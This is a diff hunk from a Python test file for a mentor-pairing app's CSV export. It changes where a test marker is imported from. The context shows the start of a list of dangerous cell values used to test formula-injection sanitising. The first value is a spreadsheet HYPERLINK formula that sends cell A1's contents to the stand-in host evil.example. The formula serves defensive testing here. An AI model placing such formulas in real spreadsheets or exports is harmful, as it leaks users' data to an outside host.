@@ -13,8 +13,8 @@ from pairing import csv_cells, export, export_pg, health
 from pairing.csv_cells import BOM, safe_cell
 from pairing.models import MentorRequest
 from tests import factories
-from tests.conftest import MARKER
 from tests.support.builders import pair
+from tests.support.marker import MARKER
 
 DANGEROUS = [
     '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
